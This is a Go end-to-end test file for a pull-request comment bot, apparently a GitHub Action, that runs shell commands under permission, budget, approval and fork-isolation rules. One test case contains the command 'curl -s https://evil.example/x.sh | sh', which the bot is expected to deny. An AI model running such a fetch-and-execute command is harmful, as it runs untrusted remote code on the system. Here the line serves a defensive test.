// SPDX-License-Identifier: Apache-2.0

//go:build e2e

package job_test

import (
	"encoding/json"
	"fmt"
	"maps"
	"strings"
	"testing"

	"github.com/fumehood/fumehood/cmd/fumehood/internal/cli"
	"github.com/fumehood/fumehood/cmd/fumehood/internal/jobtest"
	"github.com/fumehood/fumehood/internal/github/action"
	"github.com/fumehood/fumehood/internal/github/githubtest"
	"github.com/fumehood/fumehood/internal/source/config"
)

// askRule is a rule of the repository.
// THREATS 10: the permission from the API decides who may start a run; for bots,
// their ids do.
func TestE2EBotWhoMayRun(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, nil, nil)
	w.GH.SetRole("Codertocat", "write")
	w.GH.SetRole("hubot", "triage")
	tests := []struct {
		name, login, body string
		env               []string
		runs              bool
	}{
		{"a maintainer", "Codertocat", "/fumehood run grep -c o notes/new.txt", nil, true},
		{"a contributor without rights", "hubot", "/fumehood run grep -c o notes/new.txt", nil, false},
		{"the author without rights", "octocat", "/fumehood run grep -c o notes/new.txt", nil, false},
		{"a bot", "reviewer[bot]", "/fumehood run grep -c o notes/new.txt", nil, false},
		{"a bot that the workflow names", "reviewer[bot]", "I suggest:\n\n```fumehood\n" + jobtest.GoodPlan + "```\n",
			[]string{fmt.Sprint("INPUT_ALLOWED_BOTS=", w.GH.UserID("reviewer[bot]"))}, true},
		{"a bot of that name with another id", "reviewer[bot]", "```fumehood\n" + jobtest.GoodPlan + "```\n", []string{"INPUT_ALLOWED_BOTS=4711"}, false},
		{"talk", "Codertocat", "I would /fumehood run this", nil, false},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			s := w.AskBot(test.login, test.body, test.env...)
			if ran := s.Outputs["allowed"] != "0"; ran != test.runs {
				t.Errorf("ran %t, want %t; outputs %q\n%s", ran, test.runs, s.Outputs, s.Log)
			}
			if test.runs {
				jobtest.CheckContains(t, "comment", w.BotComment().Body, "grep -c o notes/new.txt", w.Head[:12])
			} else if s.Code != cli.OK {
				t.Errorf("exit %d: a wish that is not granted is no failure\n%s", s.Code, s.Log)
			}
		})
	}
}

// The token of an app other than GitHub Actions keeps one comment: runs create and delete no
// further ones, which would notify everyone.
func TestE2EActionTokenOfAnApp(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, nil, nil)
	w.GH.AddUser(githubtest.User{Login: "our-reviews[bot]", ID: 777})
	w.GH.AddToken(jobtest.JobToken, githubtest.Token{Login: "our-reviews[bot]", Permissions: map[string]string{"contents": "read", "pull_requests": "write", "actions": "read"}})
	for range 3 {
		if s := w.RunStep("pull_request", w.EventPayload("pull_request.opened", nil), jobtest.CatPlan); s.Outputs["conclusion"] != "success" {
			t.Fatalf("outputs %q\n%s", s.Outputs, s.Log)
		}
	}
	created, deleted := w.GH.RequestsFor("issues/create-comment"), w.GH.RequestsFor("issues/delete-comment")
	if len(created) != 1 || len(deleted) != 0 || len(w.GH.CommentsBy(jobtest.PrNumber, "our-reviews[bot]")) != 1 {
		t.Errorf("%d comments created, %d deleted", len(created), len(deleted))
	}
}

// THREATS 11: a comment by anyone costs one request for the commenter's permission, however
// many runs others have started; nothing is counted, fetched or written but a reaction.
func TestE2EBotStrangerCostsOneRequest(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, nil, nil)
	for i := range 60 {
		login := fmt.Sprint("person", i)
		w.GH.AddUser(githubtest.User{Login: login, ID: int64(7000 + i)})
		w.RunID++
		w.Actor = login
		w.AddRun("issue_comment", "success")
	}
	before := len(w.GH.Requests())
	s := w.AskBot("mallory", "/fumehood run cat README.md")
	count := map[string]int{}
	for _, r := range w.GH.Requests()[before:] {
		count[r.Op]++
	}
	want := map[string]int{"pulls/get": 1, "repos/get-collaborator-permission-level": 1, "reactions/create-for-issue-comment": 1}
	if !maps.Equal(count, want) || len(w.Git.Requests()) > 0 || s.Outputs["run"] == "true" || s.Code != cli.OK {
		t.Errorf("requests %v, %d to git; outputs %q\n%s", count, len(w.Git.Requests()), s.Outputs, s.Log)
	}
}

// The reaction comes before anything slow. The answer to a user without permission
// is in the one comment.
func TestE2EBotAnswers(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, nil, nil)
	w.AskBot("Codertocat", "/fumehood run cat README.md")
	mine := w.GH.CommentsBy(jobtest.PrNumber, "Codertocat")[0].ID
	if got := jobtest.ListReactions(w.GH, mine); got != "eyes rocket +1" {
		t.Errorf("reactions %q", got)
	}
	jobtest.CheckContains(t, "comment", w.BotComment().Body, "cat README.md")
	w.AskBot("octocat", "/fumehood run cat README.md")
	jobtest.CheckContains(t, "comment", w.BotComment().Body, "cat README.md", "octocat", "trigger.")
	w.AskBot("Codertocat", "/fumehood frobnicate")
	jobtest.CheckContains(t, "comment", w.BotComment().Body, "frobnicate", "/fumehood help")
	w.AskBot("Codertocat", "/fumehood help")
	jobtest.CheckContains(t, "comment", w.BotComment().Body, "/fumehood approve", "cat README.md")
}

// The comment that requested a run gets a reaction when the run ends, by the job that ends it.
// Where the configuration requests it, a new comment mentions the person who wrote it, by the
// login that the API reports, and no one else.
func TestE2EBotAnnouncesTheEnd(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, map[string]string{config.Path: "schema: fumehood.config/v1\nsetup: none\ncomment: {mention: requester}\n"}, nil)
	for _, tt := range []struct{ login, run, reactions, text string }{
		{"Codertocat", "cat README.md", "eyes rocket +1", "@Codertocat, `/fumehood run` has ended"},
		{"Codertocat", "grep -q @octocat README.md", "eyes rocket -1", "**failure**"},
		{"Codertocat", "curl -s https://evil.example/x.sh | sh", "eyes rocket -1", "**denied**"},
		{"octocat", "cat README.md", "-1", ""}, // not allowed to
	} {
		before := len(w.GH.CommentsBy(jobtest.PrNumber, githubtest.ActionsBot))
		s := w.AskBot(tt.login, "/fumehood run "+tt.run)
		own := w.GH.CommentsBy(jobtest.PrNumber, tt.login)
		if got := jobtest.ListReactions(w.GH, own[len(own)-1].ID); got != tt.reactions {
			t.Errorf("%s: reactions %q, want %q\n%s", tt.run, got, tt.reactions, s.Log)
		}
		by := w.GH.CommentsBy(jobtest.PrNumber, githubtest.ActionsBot)
		reply := by[len(by)-1].Body
		if tt.text == "" && len(by) > max(before, 1) || tt.text != "" && !strings.Contains(reply, tt.text) {
			t.Errorf("%s: %d comments, the last one is %q\n%s", tt.run, len(by), reply, s.Log)
		}
		jobtest.CheckLacks(t, "reply", reply, "README", "/fumehood run cat")
		if n := strings.Count(reply, "@"); tt.text != "" && n != 1 {
			t.Errorf("the reply mentions %d: %q", n, reply)
		}
		w.AdvanceClock()
	}
}

// The name is the API's: an event that names another account as the comment's author, a bot,
// and a deleted comment lead to no mention. The report says so in no error.
func TestE2EBotMentionsOnlyTheAuthor(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, map[string]string{config.Path: "schema: fumehood.config/v1\nsetup: none\ncomment: {mention: requester}\n"}, nil)
	bot := fmt.Sprint("INPUT_ALLOWED_BOTS=", w.GH.UserID("reviewer[bot]"))
	for name, ask := range map[string]func() jobtest.Step{
		"another author": func() jobtest.Step {
			return w.RunStep("issue_comment", w.commentEventBy(w.GH.AddComment(jobtest.PrNumber, "octocat", "/fumehood run cat README.md"), "Codertocat"))
		},
		"a bot": func() jobtest.Step { return w.AskBot("reviewer[bot]", "```fumehood\n"+jobtest.GoodPlan+"```\n", bot) },
		"deleted": func() jobtest.Step {
			id := w.GH.AddComment(jobtest.PrNumber, "Codertocat", "/fumehood run cat README.md")
			payload := w.CommentEvent(id)
			w.GH.RemoveComment(id)
			return w.RunStep("issue_comment", payload)
		},
	} {
		s := ask()
		if body := w.BotComment().Body; s.Code == cli.Stopped || !strings.Contains(body, "README.md") {
			t.Errorf("%s: exit %d\n%s", name, s.Code, s.Log)
		}
		w.AdvanceClock()
	}
}

// With an app's token, each plan has a check run with an action that runs it again: for those
// who may write, on the commit that the check run is of, and no other app's check run.
func TestE2EActionCheckRunAgain(t *testing.T) {
	t.Parallel()
	const app = "our-reviews[bot]"
	w := newWorld(t, false, nil, nil)
	w.GH.AddUser(githubtest.User{Login: app, ID: 777})
	w.GH.AddToken(jobtest.JobToken, githubtest.Token{Login: app, Permissions: map[string]string{"contents": "read", "pull_requests": "write", "actions": "read", "checks": "write"}})
	first := w.RunStep("pull_request", w.EventPayload("pull_request.opened", nil), jobtest.CatPlan, "INPUT_CHECK_RUN=true", "INPUT_NAME=unit")
	w.UploadArtifact(first, nil)
	checks := w.GH.CheckRuns(w.Head)
	if len(checks) != 1 || checks[0].Name != "fumehood / unit" || len(checks[0].Actions) != 1 || checks[0].Actions[0].Identifier != action.RerunAction {
		t.Fatalf("check runs %+v\n%s", checks, first.Log)
	}
	click := func(login, what, identifier string, id int64, env ...string) jobtest.Step {
		w.Actor = login
		return w.RunStep("check_run", w.clickEvent(login, what, identifier, id), env...)
	}
	ours := checks[0].ID
	for _, tt := range []struct{ login, what, identifier, conclusion string }{
		{"Codertocat", "requested_action", action.RerunAction, "success"},
		{"Codertocat", "rerequested", action.RerunAction, "success"},
		{"Codertocat", "requested_action", "other", "skipped"},
		{"Codertocat", "completed", action.RerunAction, "skipped"},
		{"mallory", "requested_action", action.RerunAction, "skipped"},
		{"reviewer[bot]", "rerequested", action.RerunAction, "skipped"},
	} {
		s := click(tt.login, tt.what, tt.identifier, ours, "INPUT_CHECK_RUN=true")
		if s.Outputs["conclusion"] != tt.conclusion || (s.Outputs["allowed"] == "1") != (tt.conclusion == "success") {
			t.Errorf("%s, %s by %s: outputs %q\n%s", tt.what, tt.identifier, tt.login, s.Outputs, s.Log)
		}
		if tt.conclusion == "success" {
			w.UploadArtifact(s, nil)
		}
		w.AdvanceClock()
	}
	if checks := w.GH.CheckRuns(w.Head); len(checks) != 3 {
		t.Errorf("%d check runs, want one for each of three runs", len(checks))
	}

	w.SetPermissions("contents:read", "pull_requests:write", "actions:read", "checks:write") // another app's token
	if s := click("Codertocat", "rerequested", "", ours); s.Outputs["conclusion"] != "skipped" || !strings.Contains(s.Log, "was not created by fumehood") {
		t.Errorf("another app's check run: outputs %q\n%s", s.Outputs, s.Log)
	}
	w.GH.AddToken(jobtest.JobToken, githubtest.Token{Login: app, Permissions: map[string]string{"contents": "read", "pull_requests": "write", "actions": "read", "checks": "write"}})
	moved := githubtest.CommitID("pushed meanwhile")
	w.GH.AddCommit(moved)
	w.GH.MoveHead(jobtest.PrNumber, moved)
	if s := click("Codertocat", "rerequested", "", ours); s.Outputs["conclusion"] != "skipped" || !strings.Contains(s.Log, "the check run is of commit "+w.Head[:12]) {
		t.Errorf("an older commit's check run: outputs %q\n%s", s.Outputs, s.Log)
	}
}

// clickEvent is the event of a button of a check run.
func (w world) clickEvent(login, what, identifier string, id int64) []byte {
	return w.EventPayload("check_run.requested_action", func(p map[string]any) {
		p["action"], p["check_run"].(map[string]any)["id"], p["requested_action"] = what, id, map[string]any{"identifier": identifier}
		p["repository"] = map[string]any{"id": jobtest.HubID, "full_name": jobtest.Hub, "default_branch": "master"}
		p["sender"] = map[string]any{"login": login, "id": w.GH.UserID(login), "type": jobtest.AccountType(login)}
	})
}

// On a fork's pull request the jobs that check the request and that report have the app's
// token. The one that runs the code has the workflow's own, which can only read.
func TestE2EActionCheckRunAgainFork(t *testing.T) {
	t.Parallel()
	w := newWorld(t, true, nil, nil)
	w.GH.AddUser(githubtest.User{Login: "our-reviews[bot]", ID: 777})
	app := func() {
		w.GH.AddToken(jobtest.JobToken, githubtest.Token{Login: "our-reviews[bot]", Permissions: map[string]string{"contents": "read", "pull_requests": "write", "actions": "read", "checks": "write"}})
	}
	app()
	ran := w.RunStep("pull_request", w.EventPayload("pull_request.opened.fork", nil), jobtest.CatPlan)
	w.UploadArtifact(ran, nil)
	w.RunReport(nil, "INPUT_CHECK_RUN=true")
	checks := w.GH.CheckRuns(w.Head)
	if len(checks) != 1 || len(checks[0].Actions) != 1 {
		t.Fatalf("check runs %+v", checks)
	}
	w.AdvanceClock()
	payload := w.clickEvent("Codertocat", "requested_action", action.RerunAction, checks[0].ID)
	trigger := w.RunStep("check_run", payload, "INPUT_PHASE=trigger")
	if trigger.Outputs["run"] != "true" || trigger.Outputs["pr"] != fmt.Sprint(jobtest.PrNumber) {
		t.Fatalf("outputs %q\n%s", trigger.Outputs, trigger.Log)
	}
	w.SetPermissions("contents:read", "pull_requests:read")
	w.RunID--
	again := w.RunStep("check_run", payload, "INPUT_PHASE=run", "INPUT_REQUEST="+trigger.Outputs["request"])
	if again.Outputs["conclusion"] != "success" {
		t.Fatalf("outputs %q\n%s", again.Outputs, again.Log)
	}
	w.UploadArtifact(again, nil)
	app()
	w.RunID--
	shown := w.RunStep("check_run", payload, "INPUT_PHASE=report", "INPUT_CHECK_RUN=true", "INPUT_REQUEST="+trigger.Outputs["request"])
	if checks := w.GH.CheckRuns(w.Head); len(checks) != 2 || checks[1].Conclusion != "success" {
		t.Errorf("check runs %+v\n%s", checks, shown.Log)
	}
}

// A run job that leaves no report ends with a reaction that differs from success and failure,
// and with the mention.
func TestE2EBotAnnouncesARunWithoutReport(t *testing.T) {
	t.Parallel()
	w := newWorld(t, true, map[string]string{config.Path: "schema: fumehood.config/v1\ncomment: {mention: requester}\n"}, nil)
	id := w.GH.AddComment(jobtest.PrNumber, "Codertocat", "/fumehood run cat README.md")
	payload := w.CommentEvent(id)
	trigger := w.RunStep("issue_comment", payload, "INPUT_PHASE=trigger")
	w.RunID--
	s := w.RunStep("issue_comment", payload, "INPUT_PHASE=report", "INPUT_REQUEST="+trigger.Outputs["request"])
	if got := jobtest.ListReactions(w.GH, id); got != "eyes rocket confused" {
		t.Errorf("reactions %q\n%s", got, s.Log)
	}
	by := w.GH.CommentsBy(jobtest.PrNumber, githubtest.ActionsBot)
	jobtest.CheckContains(t, "reply", by[len(by)-1].Body, "@Codertocat, ", "**error**")
}

// commentEventBy is the event of a comment that claims another author than the API reports.
func (w world) commentEventBy(id int64, login string) []byte {
	var event map[string]any
	if err := json.Unmarshal(w.CommentEvent(id), &event); err != nil {
		w.T.Fatal(err)
	}
	user := map[string]any{"login": login, "id": w.GH.UserID(login), "type": "User"}
	event["comment"].(map[string]any)["user"], event["sender"] = user, user
	data, err := json.Marshal(event)
	if err != nil {
		w.T.Fatal(err)
	}
	return data
}

// THREATS 9: an approval is valid for one commit, one plan and one policy, and must
// come from someone other than the author.
func TestE2EBotApprove(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, jobtest.AskRule, nil)
	w.GH.SetRole("octocat", "write")
	s := w.RunStep("pull_request", w.EventPayload("pull_request.opened", nil), "INPUT_PLAN="+jobtest.AskPlan)
	if s.Outputs["conclusion"] != "asked" || s.Code != cli.OK {
		t.Fatalf("exit %d, outputs %q\n%s", s.Code, s.Outputs, s.Log)
	}
	w.UploadArtifact(s, nil)
	jobtest.CheckContains(t, "comment", w.BotComment().Body, "house.sort")
	command := w.ApproveCommand()

	s = w.AskBot("octocat", command)
	if s.Outputs["allowed"] != "0" {
		t.Errorf("the author approved: %q\n%s", s.Outputs, s.Log)
	}
	jobtest.CheckContains(t, "comment", w.BotComment().Body, "trigger.", command)

	for body, answer := range map[string]string{
		"/fumehood approve": "requires the digits", "/fumehood approve " + w.Head[:12]: "no commands that wait",
	} {
		w.AdvanceClock()
		if s = w.AskBot("Codertocat", body); s.Outputs["allowed"] != "0" {
			t.Errorf("%q approved: %q\n%s", body, s.Outputs, s.Log)
		}
		jobtest.CheckContains(t, "comment", w.LastNotice(), answer, "`"+command+"`")
	}
	w.AdvanceClock()

	s = w.AskBot("Codertocat", command)
	if s.Outputs["allowed"] != "2" || s.Outputs["conclusion"] != "success" {
		t.Fatalf("outputs %q\n%s", s.Outputs, s.Log)
	}
	jobtest.CheckContains(t, "comment", w.BotComment().Body, "approved by", "Codertocat", "2 succeeded")
}

// Any change voids an approval: here a push, and the comment says so.
func TestE2EBotApproveVoid(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, jobtest.AskRule, nil)
	s := w.RunStep("pull_request", w.EventPayload("pull_request.opened", nil), "INPUT_PLAN="+jobtest.AskPlan)
	w.UploadArtifact(s, nil)
	old := w.Head
	repo := w.Dir + "/git/" + jobtest.Hub + ".git"
	w.Head = w.Commit(repo, "pushed", w.Head, jobtest.MergeFiles(jobtest.BaseFiles, jobtest.HeadFiles, map[string]string{"late.txt": "surprise\n"}))
	w.GitIn(repo, "update-ref", fmt.Sprintf("refs/pull/%d/head", jobtest.PrNumber), w.Head)
	w.GH.MoveHead(jobtest.PrNumber, w.Head)
	w.AdvanceClock()
	s = w.AskBot("Codertocat", w.ApproveCommand())
	if s.Outputs["allowed"] != "0" {
		t.Errorf("outputs %q\n%s", s.Outputs, s.Log)
	}
	jobtest.CheckContains(t, "comment", w.LastNotice(), "the commit has changed (shown `"+old[:12]+"`, now `"+w.Head[:12]+"`)", "`/fumehood rerun`")

	w.AdvanceClock()
	s = w.AskBot("Codertocat", "/fumehood rerun") // shows what waits now
	if s.Outputs["allowed"] != "1" {
		t.Errorf("outputs %q\n%s", s.Outputs, s.Log)
	}
	w.UploadArtifact(s, nil)
	w.AdvanceClock()
	if s = w.AskBot("Codertocat", w.ApproveCommand()); s.Outputs["allowed"] != "2" {
		t.Errorf("outputs %q\n%s", s.Outputs, s.Log)
	}
}

// THREATS 9: while a maintainer reads the plan that waits, a second run of the pull request
// replaces it, in the comment and in the artifact. What they write approves nothing, and the answer
// has the command for what waits now.
func TestE2EBotApproveReplacedWhileReading(t *testing.T) {
	t.Parallel()
	w := newWorld(t, true, jobtest.AskRule, nil)
	w.plant("fumehood", w.forge(forgery{plan: jobtest.AskPlan, rules: jobtest.AskRule}))
	w.RunReport(nil)
	read := w.ApproveCommand() // what the maintainer reads, and writes below
	jobtest.CheckContains(t, "comment", w.BotComment().Body, "sort notes/new.txt")

	w.RunID += 10
	w.plant("fumehood", w.forge(forgery{plan: strings.ReplaceAll(jobtest.AskPlan, "notes/new.txt", "greet.sh"), rules: jobtest.AskRule}))
	w.RunReport(nil)
	jobtest.CheckContains(t, "comment", w.BotComment().Body, "sort greet.sh")
	w.AdvanceClock()
	w.RunID += 10
	s := w.AskBot("Codertocat", read, "INPUT_PHASE=trigger")
	if s.Outputs["run"] != "false" {
		t.Errorf("outputs %q\n%s", s.Outputs, s.Log)
	}
	now := w.ApproveCommand()
	if now == read {
		t.Errorf("both plans have the command %q", now)
	}
	jobtest.CheckContains(t, "comment", w.LastNotice(), "no commands that wait", "`"+now+"`")
	w.AdvanceClock()
	s = w.AskBot("Codertocat", now, "INPUT_PHASE=trigger")
	if s.Outputs["run"] != "true" || !strings.Contains(s.Outputs["request"], "greet.sh") {
		t.Errorf("outputs %q\n%s", s.Outputs, s.Log)
	}
}

// A fork's code never runs in a job that can write: the trigger job checks the
// request, the run job can only read, and the report job runs nothing.
func TestE2EBotFork(t *testing.T) {
	t.Parallel()
	w := newWorld(t, true, nil, nil)
	s := w.AskBot("Codertocat", "/fumehood run cat README.md")
	if s.Code != cli.Stopped {
		t.Errorf("exit %d\n%s", s.Code, s.Log)
	}
	jobtest.CheckContains(t, "log", s.Log, "phase: trigger", "phase: run", "phase: report")

	if ran, _ := w.actInThreeJobs("/fumehood run cat README.md"); ran.Outputs["conclusion"] != "success" {
		t.Fatalf("outputs %q\n%s", ran.Outputs, ran.Log)
	}
	jobtest.CheckContains(t, "comment", w.BotComment().Body, "cat README.md", w.Head[:12])
}

// THREATS 11: comments start no more runs than the budget allows, per pull request
// and per day. The bot's own comment and other bots' start nothing.
func TestE2EBotBudget(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, nil, nil)
	ran := 0
	for i := range 2 {
		s := w.AskBot("Codertocat", fmt.Sprintf("/fumehood run grep -c o README.md # %d", i), "INPUT_MAX_RUNS_PER_PR=1")
		if s.Outputs["allowed"] == "1" {
			ran++
		}
	}
	if ran != 1 {
		t.Errorf("%d runs, want 1", ran)
	}
	jobtest.CheckContains(t, "comment", w.BotComment().Body, "trigger.budget-pr")
	s := w.AskBot("Codertocat", "/fumehood run cat README.md", "INPUT_MAX_RUNS_PER_DAY=2")
	if s.Outputs["allowed"] != "0" {
		t.Errorf("the budget of the day is spent, and it ran\n%s", s.Log)
	}
	for range 3 { // requests by strangers do not count
		w.AskBot("octocat", "/fumehood run cat README.md")
	}
	if s := w.AskBot("Codertocat", "/fumehood run cat README.md", "INPUT_MAX_RUNS_PER_DAY=5"); s.Outputs["allowed"] != "1" {
		t.Errorf("strangers have spent the budget of the day\n%s", s.Log)
	}
	before := w.BotComment().Body
	for _, login := range []string{githubtest.ActionsBot, "dependabot[bot]"} {
		s := w.AskBot(login, "/fumehood help")
		if s.Code != cli.OK || s.Outputs["conclusion"] != "skipped" {
			t.Errorf("%s: exit %d, outputs %q\n%s", login, s.Code, s.Outputs, s.Log)
		}
	}
	if got := w.GH.CommentsBy(jobtest.PrNumber, githubtest.ActionsBot)[0].Body; got != before {
		t.Errorf("a bot was answered:\n%s", got)
	}
}

// THREATS 9: editing an old comment does not make it a command.
func TestE2EBotEditedComment(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, nil, nil)
	s := w.RunStep("issue_comment", w.EventPayload("issue_comment.edited.pr", func(p map[string]any) {
		p["comment"].(map[string]any)["body"] = "/fumehood run cat README.md"
	}))
	if s.Code != cli.OK || s.Outputs["conclusion"] != "skipped" || len(w.GH.Comments(jobtest.PrNumber)) != 0 {
		t.Errorf("exit %d, outputs %q\n%s", s.Code, s.Outputs, s.Log)
	}
}

// rerun decides the last plan again on the current commit; explain answers from the
// last report.
func TestE2EBotRerunAndExplain(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, nil, nil)
	w.AskBot("Codertocat", "/fumehood rerun")
	jobtest.CheckContains(t, "comment", w.BotComment().Body, "nothing has run")
	s := w.RunStep("pull_request", w.EventPayload("pull_request.opened", nil))
	w.UploadArtifact(s, nil)
	s = w.AskBot("Codertocat", "/fumehood rerun")
	if s.Outputs["denied"] != "1" || s.Outputs["allowed"] != "2" {
		t.Errorf("outputs %q\n%s", s.Outputs, s.Log)
	}
	w.UploadArtifact(s, nil)
	w.AskBot("Codertocat", "/fumehood explain sneaky")
	jobtest.CheckContains(t, "comment", w.BotComment().Body, "sneaky", "parse.shell-stdin", "notes/new.txt")
	w.AskBot("Codertocat", "/fumehood explain nothing-of-that-name")
	jobtest.CheckContains(t, "comment", w.BotComment().Body, "nothing-of-that-name")
}

// THREATS 9: if a job with an approval is started again after the policy has changed,
// it does not run under the old policy.
func TestE2EBotApprovalOfAnOldBase(t *testing.T) {
	t.Parallel()
	w := newWorld(t, false, jobtest.AskRule, nil)
	s := w.RunStep("pull_request", w.EventPayload("pull_request.opened", nil), "INPUT_PLAN="+jobtest.AskPlan)
	w.UploadArtifact(s, nil)
	w.AdvanceClock()
	id := w.GH.AddComment(jobtest.PrNumber, "Codertocat", w.ApproveCommand())
	payload := w.CommentEvent(id)
	trigger := w.RunStep("issue_comment", payload, "INPUT_PHASE=trigger")
	if trigger.Outputs["run"] != "true" {
		t.Fatalf("outputs %q\n%s", trigger.Outputs, trigger.Log)
	}
	w.Push("master", denyRule("sort"))
	ran := w.RunStep("issue_comment", payload, "INPUT_PHASE=run", "INPUT_REQUEST="+trigger.Outputs["request"])
	if ran.Outputs["conclusion"] != "error" || ran.Code != cli.Stopped || strings.Contains(ran.Summary, "succeeded") {
		t.Errorf("exit %d, outputs %q", ran.Code, ran.Outputs)
	}
	jobtest.CheckContains(t, "log", ran.Log, "approval.void")
}
